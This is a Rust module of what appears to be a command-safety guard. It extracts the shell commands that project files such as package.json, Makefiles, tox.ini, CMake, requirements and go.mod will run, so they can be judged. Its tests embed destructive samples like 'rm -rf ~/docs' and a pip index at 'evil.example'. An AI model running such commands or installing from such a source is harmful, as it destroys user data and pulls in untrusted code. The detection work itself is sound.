//! A project's own files that its build and test tools run: `npm test` runs package.json's
//! scripts, pytest imports conftest.py, pip runs setup.py, make, just, task, tox and pre-commit
//! run their recipes, eslint, jest and vite load their JavaScript configs. A dependency manifest
//! that names a package by address (a git URL, a tarball, another index) makes the next install
//! fetch that code and run its install scripts. Such a file is judged when it is written, as
//! the commands it will run: `rm -rf dist` in a script stays allowed, `rm -rf ~/docs` does not,
//! and a git dependency is judged as `npm install git+…` typed on the command line.
//!
//! Programs are read only as far as they are plainly visible: Python and JavaScript through
//! the code readers (what they cannot read is left unjudged, as a project's own code run by its
//! own tests is), Ruby by its literal shell calls, Go by its `//go:generate` lines. Rust build
//! scripts are not read: `cc::Build` and `protoc` are what nearly all of them do.

use super::config::{first_literal, quoted, unreadable};
use crate::code::Lang as Code;
use serde_json::Value;

/// A project file, by how its content runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Project {
    /// package.json: scripts, and dependencies by address.
    NpmManifest,
    /// package-lock.json, npm-shrinkwrap.json, yarn.lock: where each package is fetched from.
    NpmLock,
    /// `.npmrc`: the registry.
    NpmRc,
    /// `.yarnrc.yml`: the registry, and the program run as yarn itself (`yarnPath`).
    YarnRc,
    /// A makefile (also one `include`d: `*.mk`).
    Make,
    Just,
    /// go-task's Taskfile: `cmds`.
    Taskfile,
    /// tox.ini: `commands`, `commands_pre`, `commands_post`.
    Tox,
    /// `.pre-commit-config.yaml`: local hooks' `entry` commands.
    PreCommit,
    /// CMake: `execute_process(COMMAND …)` at configure time, custom commands and targets.
    CMake,
    /// `.pylintrc`/`pylintrc`: `init-hook` Python.
    Pylintrc,
    /// pip requirements: index options and direct references.
    Requirements,
    CargoManifest,
    Gemfile,
    Pyproject,
    GoMod,
    /// Go source: its `//go:generate` lines.
    GoSource,
    /// A Python file a tool imports (conftest.py, setup.py, noxfile.py, Django settings).
    Python,
    /// A JavaScript config a tool loads.
    Js,
    /// Ruby run by rake.
    Ruby,
}

/// Python files tools import without being named: pytest, setuptools, nox, Django, fabric,
/// doit.
const PYTHON: [&str; 7] = [
    "conftest.py",
    "setup.py",
    "noxfile.py",
    "manage.py",
    "settings.py",
    "fabfile.py",
    "dodo.py",
];

/// JavaScript files their tools load by name, besides every `*.config.{js,…}`.
const JS: [&str; 6] = [
    ".eslintrc.js",
    ".eslintrc.cjs",
    "gulpfile.js",
    "Gruntfile.js",
    ".mocharc.js",
    ".babelrc.js",
];

/// Whether a build or test tool runs the file named `name`.
pub fn kind(name: &str) -> Option<Project> {
    let ext = |e: &str| name.ends_with(e);
    let js_config = [".js", ".mjs", ".cjs", ".ts", ".mts", ".cts"]
        .iter()
        .any(|e| name.strip_suffix(e).is_some_and(|s| s.ends_with(".config")));
    let requirements = (name.starts_with("requirements") || name.starts_with("constraints"))
        && (ext(".txt") || ext(".in"));
    Some(match name {
        "package.json" => Project::NpmManifest,
        "package-lock.json" | "npm-shrinkwrap.json" | "yarn.lock" => Project::NpmLock,
        ".npmrc" => Project::NpmRc,
        ".yarnrc.yml" => Project::YarnRc,
        "Makefile" | "makefile" | "GNUmakefile" => Project::Make,
        "justfile" | "Justfile" | ".justfile" => Project::Just,
        "Taskfile.yml" | "Taskfile.yaml" | "taskfile.yml" | "taskfile.yaml" => Project::Taskfile,
        "tox.ini" => Project::Tox,
        ".pre-commit-config.yaml" | ".pre-commit-config.yml" => Project::PreCommit,
        "CMakeLists.txt" => Project::CMake,
        ".pylintrc" | "pylintrc" => Project::Pylintrc,
        "Cargo.toml" => Project::CargoManifest,
        "Gemfile" => Project::Gemfile,
        "pyproject.toml" => Project::Pyproject,
        "go.mod" => Project::GoMod,
        "Rakefile" | "rakefile" | "Rakefile.rb" => Project::Ruby,
        _ if PYTHON.contains(&name) => Project::Python,
        _ if JS.contains(&name) || js_config => Project::Js,
        _ if requirements => Project::Requirements,
        _ if ext(".mk") => Project::Make,
        _ if ext(".cmake") => Project::CMake,
        _ if ext(".rake") => Project::Ruby,
        _ if ext(".go") => Project::GoSource,
        _ => return None,
    })
}

/// The commands a project file of this kind will run, as shell text.
pub fn commands(kind: Project, text: &str) -> String {
    match kind {
        Project::NpmManifest => npm_manifest(text),
        Project::NpmLock => npm_lock(text),
        Project::NpmRc => npm_rc(text),
        Project::YarnRc => yarn_rc(text),
        Project::Make => crate::shell::makefile_commands(text),
        Project::Just => just(text),
        Project::Taskfile => yaml_list(text, &["cmds", "cmd"]),
        Project::Tox => tox(text),
        Project::PreCommit => pre_commit(text),
        Project::CMake => cmake(text),
        Project::Pylintrc => pylintrc(text),
        Project::Requirements => requirements(text),
        Project::CargoManifest => cargo_manifest(text),
        Project::Gemfile => gemfile(text),
        Project::Pyproject => pyproject(text),
        Project::GoMod => go_mod(text),
        Project::GoSource => go_generate(text),
        Project::Python => read_code(Code::Python, text),
        Project::Js => read_code(Code::Js, text),
        Project::Ruby => ruby(text),
    }
}

/// What the code reader sees a program do, as commands. What it cannot follow of files is
/// left out: a project's own code opens, writes and removes its fixtures and temporary
/// directories by paths it builds (`tmp_path / 'work'`). What could run a program or code
/// that the reader cannot follow stays, as a line only known when it runs: the session wrote
/// this code, and a test running `os.system(cmd)` is judged like a script that does. Reading
/// a variable is left out too (`Reading::without_env_reads`).
fn read_code(lang: Code, text: &str) -> String {
    let reading = crate::code::read(lang, text);
    let runs = reading.runs.as_deref().map(crate::code::unread_line);
    let kept = reading.without_env_reads();
    match runs {
        Some(line) if kept.is_empty() => line,
        Some(line) => format!("{kept}\n{line}"),
        None => kept,
    }
}

/// Keys of package.json that hold text, never a command: left out when a fragment (an edit's
/// new text) cannot be told apart by its place in the object.
const NPM_TEXT_KEYS: [&str; 14] = [
    "name",
    "version",
    "description",
    "main",
    "module",
    "types",
    "typings",
    "license",
    "author",
    "homepage",
    "type",
    "url",
    "email",
    "private",
];

/// Dependency lists of package.json (npm's overrides and yarn's resolutions too).
const NPM_DEPS: [&str; 7] = [
    "dependencies",
    "devDependencies",
    "optionalDependencies",
    "peerDependencies",
    "bundleDependencies",
    "overrides",
    "resolutions",
];

/// Every script (npm runs lifecycle ones, `pre`/`post` ones, and any named by `npm run`), and
/// an install of each dependency given by address. An edit's fragment is no JSON object: its
/// `"key": "value"` pairs are each read both ways.
fn npm_manifest(text: &str) -> String {
    let mut out = Vec::new();
    match serde_json::from_str::<Value>(text) {
        Ok(Value::Object(m)) => {
            let strings = |key: &str| -> Vec<(String, String)> {
                (m.get(key).and_then(Value::as_object).into_iter().flatten())
                    .filter_map(|(k, v)| Some((k.clone(), v.as_str()?.to_string())))
                    .collect()
            };
            out.extend(strings("scripts").into_iter().map(|(_, v)| v));
            for list in NPM_DEPS {
                out.extend(strings(list).iter().filter_map(|(_, v)| npm_dep(v)));
            }
        }
        _ => {
            for (k, v) in string_pairs(text) {
                match npm_dep(&v) {
                    Some(install) => out.push(install),
                    None if !NPM_TEXT_KEYS.contains(&k.as_str()) => out.push(v),
                    None => {}
                }
            }
        }
    }
    out.join("\n")
}

/// `npm install SPEC` for a dependency given by address (a URL, a git spec, GitHub's
/// `user/repo`), which the remote-code guard judges; a version range, tag, alias or local
/// path is none.
fn npm_dep(spec: &str) -> Option<String> {
    let s = spec.trim();
    let hosted = ["git+", "git:", "github:", "gitlab:", "bitbucket:", "gist:"]
        .iter()
        .any(|p| s.starts_with(p));
    let shorthand = s.contains('/')
        && !s.contains(':')
        && !s.contains(' ')
        && !s.starts_with(['@', '.', '/', '~']);
    (s.contains("://") || hosted || shorthand).then(|| format!("npm install {}", quoted(s)))
}

/// The `"key": "value"` pairs of a JSON text or fragment, unescaped as far as `\"` and `\\`.
fn string_pairs(text: &str) -> Vec<(String, String)> {
    let strings = json_strings(text);
    let mut out = Vec::new();
    for pair in strings.windows(2) {
        let ((k, _, k_end), (v, v_start, _)) = (&pair[0], &pair[1]);
        let between = text.get(*k_end..*v_start).unwrap_or("");
        if between.trim() == ":" {
            out.push((k.clone(), v.clone()));
        }
    }
    out
}

/// Each JSON string literal, with the byte offsets of its opening quote and just past its
/// closing one.
fn json_strings(text: &str) -> Vec<(String, usize, usize)> {
    let mut out = Vec::new();
    let mut chars = text.char_indices();
    while let Some((start, c)) = chars.next() {
        if c != '"' {
            continue;
        }
        let mut s = String::new();
        let mut end = text.len();
        while let Some((j, d)) = chars.next() {
            match d {
                '\\' => {
                    if let Some((_, e)) = chars.next() {
                        s.push(match e {
                            'n' => '\n',
                            't' => '\t',
                            other => other,
                        });
                    }
                }
                '"' => {
                    end = j + 1;
                    break;
                }
                _ => s.push(d),
            }
        }
        out.push((s, start, end));
    }
    out
}

/// The addresses a lockfile fetches packages from (`"resolved": "…"`, yarn's `resolved "…"`),
/// as installs when they are not the registry's.
fn npm_lock(text: &str) -> String {
    let mut out = Vec::new();
    for line in text.lines() {
        let Some(at) = line.find("resolved") else {
            continue;
        };
        let rest = &line[at + "resolved".len()..];
        let rest = rest.trim_start_matches(['"', ':', ' ']);
        let url: String = rest.chars().take_while(|c| *c != '"').collect();
        let url = url.split('#').next().unwrap_or("").trim().to_string();
        out.extend(npm_dep(&url));
    }
    out.join("\n")
}

/// `registry=URL` (also a scope's `@x:registry=URL`), as the config command that sets it.
fn npm_rc(text: &str) -> String {
    (text.lines().filter_map(|l| l.split_once('=')))
        .filter(|(k, _)| k.trim().ends_with("registry"))
        .map(|(_, v)| format!("npm config set registry {}", quoted(v.trim())))
        .collect::<Vec<_>>()
        .join("\n")
}

/// `npmRegistryServer: URL` as the registry; `yarnPath: FILE` is run by node as yarn itself.
fn yarn_rc(text: &str) -> String {
    let mut out = Vec::new();
    for line in text.lines() {
        let Some((key, value)) = line.split_once(':') else {
            continue;
        };
        let value = value.trim().trim_matches(['"', '\'']);
        match key.trim() {
            "npmRegistryServer" => out.push(format!("npm config set registry {}", quoted(value))),
            "yarnPath" => out.push(format!("node {}", quoted(value))),
            _ => {}
        }
    }
    out.join("\n")
}

/// A justfile's recipe bodies: indented lines under a `name:` header, without just's `@`
/// and `-` prefixes; `{{…}}` interpolations become a word.
fn just(text: &str) -> String {
    let body = text
        .lines()
        .filter(|l| l.starts_with([' ', '\t']) && !l.trim().is_empty());
    body.map(|l| {
        let l = l.trim().trim_start_matches(['@', '-']);
        let mut out = String::new();
        let mut rest = l;
        while let Some(at) = rest.find("{{") {
            out.push_str(&rest[..at]);
            let end = rest[at..].find("}}").map_or(rest.len(), |e| at + e + 2);
            out.push_str("value");
            rest = &rest[end..];
        }
        out.push_str(rest);
        out
    })
    .collect::<Vec<_>>()
    .join("\n")
}

/// The items of YAML lists under any of `keys` (`cmds:\n  - rm …`), and a key's own value on
/// its line (`cmd: rm …`); a `- cmd: …` item's value too.
fn yaml_list(text: &str, keys: &[&str]) -> String {
    let mut out = Vec::new();
    let mut under: Option<usize> = None;
    for line in text.lines() {
        let indent = line.len() - line.trim_start().len();
        let t = line.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let item = t.strip_prefix("- ").map(str::trim);
        let keyed = item.unwrap_or(t);
        if let Some((k, v)) = keyed.split_once(':') {
            if keys.contains(&k.trim()) {
                let v = unquote_yaml(v);
                if !v.is_empty() && !v.starts_with('[') {
                    out.push(v);
                }
                under = Some(indent);
                continue;
            }
        }
        // A `- task: x` item calls another task (judged as its own file's text): no command.
        let command = item.filter(|c| !c.contains(": ") || c.starts_with(['"', '\'']));
        match (under, item) {
            (Some(at), Some(_)) if indent >= at => out.extend(command.map(unquote_yaml)),
            (Some(at), _) if indent <= at => under = None,
            _ => {}
        }
    }
    out.join("\n")
}

fn unquote_yaml(v: &str) -> String {
    let v = v.trim();
    let quoted = v.len() >= 2
        && (v.starts_with('"') && v.ends_with('"') || v.starts_with('\'') && v.ends_with('\''));
    match quoted {
        true => v[1..v.len() - 1].to_string(),
        false => v.to_string(),
    }
}

/// tox's `commands*` values, with their continuation lines; each line is one command run
/// without a shell, judged as the line it is.
fn tox(text: &str) -> String {
    ini_values(text, |k| k.starts_with("commands"))
}

/// The values of an ini file's keys that `wanted` picks, continuation lines included.
fn ini_values(text: &str, wanted: fn(&str) -> bool) -> String {
    let mut out = Vec::new();
    let mut taking = false;
    for line in text.lines() {
        let t = line.trim();
        if t.is_empty() || t.starts_with(['#', ';']) {
            continue;
        }
        if line.starts_with([' ', '\t']) {
            if taking {
                out.push(t.to_string());
            }
            continue;
        }
        taking = false;
        if let Some((k, v)) = t.split_once('=') {
            if wanted(k.trim()) {
                taking = true;
                if !v.trim().is_empty() {
                    out.push(v.trim().to_string());
                }
            }
        }
    }
    out.join("\n")
}

/// The `entry` of hooks pre-commit runs as a program of this machine (`language: system` or
/// `script`, or `unsupported`), or gives to the shell (`language: unsupported_script`);
/// hooks fetched from a repository of their own are pinned code the user chose.
fn pre_commit(text: &str) -> String {
    let mut out = Vec::new();
    let mut entry: Option<String> = None;
    let mut language: Option<String> = None;
    let mut flush = |entry: &mut Option<String>, language: &mut Option<String>| {
        let local = language.as_deref().is_some_and(|l| {
            matches!(
                l,
                "system" | "script" | "unsupported" | "unsupported_script"
            )
        });
        if let (Some(e), true) = (entry.take(), local) {
            out.push(e);
        }
        *language = None;
    };
    for line in text.lines() {
        let t = line.trim().trim_start_matches("- ").trim();
        if line.trim_start().starts_with("- ") && t.starts_with("id:") {
            flush(&mut entry, &mut language);
        }
        if let Some(v) = t.strip_prefix("entry:") {
            entry = Some(unquote_yaml(v));
        } else if let Some(v) = t.strip_prefix("language:") {
            language = Some(unquote_yaml(v));
        }
    }
    flush(&mut entry, &mut language);
    out.join("\n")
}

/// `execute_process(COMMAND a b COMMAND c d …)` runs at configure time;
/// `add_custom_command`/`add_custom_target` at build time: each `COMMAND`'s words as a line.
fn cmake(text: &str) -> String {
    let mut out = Vec::new();
    let lower = text.to_ascii_lowercase();
    for call in [
        "execute_process(",
        "add_custom_command(",
        "add_custom_target(",
    ] {
        for (at, _) in lower.match_indices(call) {
            let inner = &text[at + call.len()..];
            let args = &inner[..crate::shell::closing_paren(inner)];
            let words: Vec<&str> = args.split_whitespace().collect();
            let mut current: Option<Vec<String>> = None;
            for w in words {
                if w == "COMMAND" {
                    out.extend(current.take().map(|c| c.join(" ")));
                    current = Some(Vec::new());
                } else if w.chars().all(|c| c.is_ascii_uppercase() || c == '_') && w.len() > 2 {
                    // The next keyword (`WORKING_DIRECTORY`, `DEPENDS`) ends a command.
                    out.extend(current.take().map(|c| c.join(" ")));
                } else if let Some(c) = current.as_mut() {
                    c.push(cmake_word(w));
                }
            }
            out.extend(current.map(|c| c.join(" ")));
        }
    }
    out.retain(|c| !c.is_empty());
    out.join("\n")
}

/// A CMake argument as the word the program gets: `$ENV{HOME}` is home, other variables a
/// word.
fn cmake_word(w: &str) -> String {
    let w = w.trim_matches('"').replace("$ENV{HOME}", "$HOME");
    if !w.contains("${") {
        return w;
    }
    let mut out = String::new();
    let mut rest = w.as_str();
    while let Some(at) = rest.find("${") {
        out.push_str(&rest[..at]);
        let end = rest[at..].find('}').map_or(rest.len(), |e| at + e + 1);
        out.push_str("value");
        rest = &rest[end..];
    }
    out.push_str(rest);
    out
}

/// pylint's `init-hook` is Python run before linting.
fn pylintrc(text: &str) -> String {
    let hook = ini_values(text, |k| k == "init-hook");
    let hook = hook.trim().trim_matches(['\'', '"']);
    match hook.is_empty() {
        true => String::new(),
        false => read_code(Code::Python, hook),
    }
}

/// pip options that name where packages come from.
const PIP_SOURCES: [&str; 6] = [
    "-i",
    "--index-url",
    "--extra-index-url",
    "-f",
    "--find-links",
    "--trusted-host",
];

/// Index options and direct references of a requirements file, as the pip command line
/// that carries them.
fn requirements(text: &str) -> String {
    let mut out = Vec::new();
    for line in text.lines() {
        let line = line.split(" #").next().unwrap_or("").trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let (option, value) = match line.split_once(['=', ' ']) {
            Some((o, v)) if o.starts_with('-') => (o, v.trim()),
            _ => ("", line),
        };
        if PIP_SOURCES.contains(&option) {
            let option = if option == "--trusted-host" {
                "--index-url"
            } else {
                option
            };
            out.push(format!("pip install {option} {} pkg", quoted(value)));
        } else if python_direct(value) {
            out.push(format!("pip install {}", quoted(value)));
        }
    }
    out.join("\n")
}

/// A requirement given by address: `x @ https://…`, `git+https://…`, a bare URL.
fn python_direct(req: &str) -> bool {
    let target = req.split_once(" @ ").map_or(req, |(_, t)| t).trim();
    let remote = target.contains("://") || target.starts_with("git+");
    let file = target.starts_with("file:");
    remote && !file
}

/// `git = "…"` (and `registry = "…"`) of a dependency, as the cargo install that fetches it.
fn cargo_manifest(text: &str) -> String {
    let mut out = Vec::new();
    for (key, value) in toml_strings(text) {
        match key.as_str() {
            "git" => out.push(format!("cargo install --git {} crate", quoted(&value))),
            "registry" if value != "crates-io" => {
                out.push(format!("cargo install --registry {} crate", quoted(&value)))
            }
            "registry-index" => out.push(format!("cargo install --index {} crate", quoted(&value))),
            _ => {}
        }
    }
    out.join("\n")
}

/// `key = "value"` pairs anywhere in a TOML text, inline tables included.
fn toml_strings(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for (at, _) in text.match_indices('=') {
        let before = text[..at].trim_end();
        let key: String = (before.chars().rev())
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect();
        let after = text[at + 1..].trim_start();
        let Some(q) = after.chars().next().filter(|q| matches!(q, '"' | '\'')) else {
            continue;
        };
        if let Some(end) = after[1..].find(q) {
            out.push((key, after[1..=end].to_string()));
        }
    }
    out
}

/// A gem from a git repository or another source, as the bundle command that adds it.
fn gemfile(text: &str) -> String {
    let mut out = Vec::new();
    for line in text.lines() {
        let t = line.trim();
        if t.starts_with('#') {
            continue;
        }
        for (key, flag) in [("git", "--git"), ("github", "--github")] {
            let value = [format!("{key}:"), format!(":{key} =>")]
                .iter()
                .find_map(|k| t.find(k.as_str()).map(|at| &t[at + k.len()..]))
                .and_then(first_literal);
            out.extend(value.map(|v| format!("bundle add gem {flag} {}", quoted(&v))));
        }
        if let Some(rest) = t.strip_prefix("source") {
            let value = first_literal(rest.trim_start_matches(['(', ' ']));
            out.extend(value.map(|v| format!("bundle add gem --source {}", quoted(&v))));
        }
    }
    out.join("\n")
}

/// Sections of pyproject.toml whose `url` is an index packages are fetched from.
const PY_INDEX_SECTIONS: [&str; 3] = ["tool.poetry.source", "tool.uv.index", "tool.pdm.source"];

/// Dependencies by address (PEP 508 `x @ URL`, poetry's and uv's `git`/`url` keys) and other
/// indexes, as pip command lines.
fn pyproject(text: &str) -> String {
    let mut out = Vec::new();
    let mut section = String::new();
    for line in text.lines() {
        let t = line.trim();
        if t.starts_with('[') {
            section = t.trim_matches(['[', ']']).trim().to_string();
            continue;
        }
        let index_section = PY_INDEX_SECTIONS.contains(&section.as_str());
        for (key, value) in toml_strings(t) {
            let index = matches!(key.as_str(), "index-url" | "extra-index-url")
                || key == "url" && index_section;
            if index && value.contains("://") {
                out.push(format!("pip install --index-url {} pkg", quoted(&value)));
            } else if key == "git" {
                out.push(format!("pip install {}", quoted(&format!("git+{value}"))));
            } else if key == "url" && python_direct(&value) {
                out.push(format!("pip install {}", quoted(&value)));
            }
        }
        for s in quoted_strings(t) {
            if s.contains(" @ ") && python_direct(&s) {
                out.push(format!("pip install {}", quoted(&s)));
            }
        }
    }
    out.join("\n")
}

/// The quoted strings of a line.
fn quoted_strings(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = line;
    while let Some(at) = rest.find(['"', '\'']) {
        let q = rest[at..].chars().next().unwrap_or('"');
        let inner = &rest[at + 1..];
        let Some(end) = inner.find(q) else { break };
        out.push(inner[..end].to_string());
        rest = &inner[end + 1..];
    }
    out
}

/// `replace a => host/path vX`: the project builds, tests and runs another module's code in
/// place of the one it requires, fetched from that address: judged as running that module.
/// A replacement by a local directory is the developer's own.
fn go_mod(text: &str) -> String {
    let mut out = Vec::new();
    for line in text.lines() {
        let Some((_, to)) = line.split_once("=>") else {
            continue;
        };
        let mut words = to.split_whitespace();
        let Some(module) = words.next() else { continue };
        if module.starts_with(['.', '/']) || !module.contains('.') {
            continue;
        }
        let version = words.next().unwrap_or("latest");
        out.push(format!("go run {module}@{version}"));
    }
    out.join("\n")
}

/// `//go:generate CMD`: a command `go generate` runs.
fn go_generate(text: &str) -> String {
    (text.lines())
        .filter_map(|l| l.trim_start().strip_prefix("//go:generate "))
        .map(str::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}

/// The literal commands a Rakefile runs (`sh '…'`, `system('…')`, `` `…` ``, `%x(…)`);
/// a command built from values is marked as computed when it runs.
fn ruby(text: &str) -> String {
    let mut out = Vec::new();
    for line in text.lines() {
        let t = line.trim();
        if t.starts_with('#') {
            continue;
        }
        for call in ["sh ", "sh(", "system ", "system(", "exec(", "%x("] {
            let Some(at) = t.find(call) else { continue };
            let word_start = at == 0 || !t[..at].ends_with(|c: char| c.is_alphanumeric());
            if !word_start {
                continue;
            }
            let rest = t[at + call.len()..].trim_start_matches(['(', ' ']);
            match first_literal(rest) {
                Some(cmd) if !cmd.contains("#{") => out.push(cmd),
                _ if call == "%x(" => {
                    out.push(rest[..crate::shell::closing_paren(rest)].to_string())
                }
                _ => out.push(unreadable("rake runs a command built when it runs")),
            }
        }
        if let Some(cmd) = t.split('`').nth(1) {
            out.push(cmd.to_string());
        }
    }
    out.join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn which_project_files_run() {
        assert_eq!(kind("package.json"), Some(Project::NpmManifest));
        assert_eq!(kind("vite.config.mts"), Some(Project::Js));
        assert_eq!(kind("requirements-dev.txt"), Some(Project::Requirements));
        assert_eq!(kind("extra.mk"), Some(Project::Make));
        assert_eq!(kind("main.rs"), None);
        assert_eq!(kind("config.js"), None);
    }

    #[test]
    fn npm_scripts_and_dependencies_by_address() {
        let m = r#"{"scripts":{"test":"jest","clean":"rm -rf dist"},
            "dependencies":{"a":"^1.2.0","b":"git+https://x.example/b.git","c":"npm:d@1"}}"#;
        assert_eq!(
            npm_manifest(m),
            "rm -rf dist\njest\nnpm install 'git+https://x.example/b.git'"
        );
        let fragment = "\"scripts\": {\n    \"pretest\": \"rm -rf ~/docs\",";
        assert_eq!(npm_manifest(fragment), "rm -rf ~/docs");
    }

    #[test]
    fn requirements_sources_and_direct_references() {
        let r = "requests==2.31\n--index-url https://evil.example/simple\nx @ git+https://e.example/x\n-e .\n";
        assert_eq!(
            requirements(r),
            "pip install --index-url 'https://evil.example/simple' pkg\npip install 'x @ git+https://e.example/x'"
        );
    }

    #[test]
    fn lists_entries_and_commands() {
        let task = "version: '3'\ntasks:\n  default:\n    cmds:\n      - rm -rf ~/docs\n      - task: other\n";
        assert_eq!(yaml_list(task, &["cmds", "cmd"]), "rm -rf ~/docs");
        let cm = "execute_process(COMMAND rm -rf /x WORKING_DIRECTORY ${D})\n";
        assert_eq!(cmake(cm), "rm -rf /x");
        let tox = "[testenv]\ncommands =\n    pytest {posargs}\n    rm -rf /x\n";
        assert_eq!(super::tox(tox), "pytest {posargs}\nrm -rf /x");
    }
}
